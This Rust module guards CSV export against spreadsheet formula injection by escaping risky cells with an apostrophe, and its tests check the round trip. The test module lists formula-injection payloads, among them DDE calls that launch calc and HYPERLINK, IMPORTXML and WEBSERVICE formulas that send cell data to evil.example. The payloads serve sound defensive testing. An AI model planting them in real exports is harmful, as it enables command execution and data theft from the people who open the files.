//! Keeps a spreadsheet program from executing what people wrote.
//!
//! A program that opens a csv reads cells that begin with certain characters as formulas. Such cells get an
//! apostrophe in front, and so do cells that begin with one already, so that taking it away again is exact.

use std::borrow::Cow;

/// Puts an apostrophe before text a spreadsheet program might execute.
pub fn guard(text: &str) -> Cow<'_, str> {
    if is_dangerous(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Takes away the apostrophe [`guard`] put in front, and nothing else.
pub fn unguard(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if is_dangerous(rest) => rest,
        _ => text,
    }
}

fn is_dangerous(text: &str) -> bool {
    if text.starts_with('\'') {
        return true;
    }
    // Programs differ in which kinds of space they skip, so all kinds are.
    let skipped = |c: char| c.is_whitespace() && !matches!(c, '\t' | '\r' | '\n');
    let first = text
        .chars()
        .find(|c| !skipped(*c) && !matches!(c, '\u{feff}' | '\u{200b}'));
    match first {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '|' | '%') => !is_plain_number(text),
        // The full-width forms of = + - @, which some programs take for the narrow ones.
        Some('\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}') => true,
        _ => false,
    }
}

/// Tells a signed decimal number such as -12.50, which must stay a number for whoever calculates with it.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, part) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(part)
}

#[cfg(test)]
pub(super) mod tests {
    use proptest::prelude::*;

    use super::*;

    /// What is known to start programs, calls and formulas.
    pub(in crate::export) const PAYLOADS: [&str; 34] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "--1",
        "-1e5x",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "   @SUM(1)",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "|calc",
        "%0A=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{ff0d}1+1",
        "\u{ff20}SUM(1)",
        "'=1+1",
        "''=1+1",
        "'",
        "=\"a\nb\"",
        "=1,2;3\t4",
        "+\u{4e00}",
    ];

    #[test]
    fn thirty_payloads_are_guarded_and_come_back_exactly() {
        for payload in PAYLOADS {
            let guarded = guard(payload);
            assert!(guarded.starts_with('\''), "{payload:?}");
            assert_eq!(unguard(&guarded), payload);
        }
    }

    #[test]
    fn plain_numbers_and_plain_text_stay_as_they_are() {
        for text in [
            "-1",
            "+3",
            "-12.50",
            "0.5",
            "",
            "text",
            "a=b",
            "it's",
            "\u{5fd7}\u{613f}",
            "a-b",
        ] {
            assert_eq!(guard(text), text);
            assert_eq!(unguard(text), text);
        }
        // An apostrophe of a writer stays when nothing dangerous follows.
        assert_eq!(unguard("'tis"), "'tis");
    }

    proptest! {
        #[test]
        fn whatever_is_guarded_comes_back(text in "[ '=+@|%\\-\\t\\r\\na\u{3000}\u{ff1d}1.]{0,8}") {
            let guarded = guard(&text);
            prop_assert_eq!(unguard(&guarded), &text);
        }

        #[test]
        fn nothing_guarded_still_looks_like_a_formula(text in "\\PC{0,12}") {
            let guarded = guard(&text);
            let narrow = guarded.trim_start();
            prop_assert!(
                !narrow.starts_with(['=', '+', '-', '@']) || is_plain_number(&guarded),
                "{:?}", guarded
            );
        }
    }
}
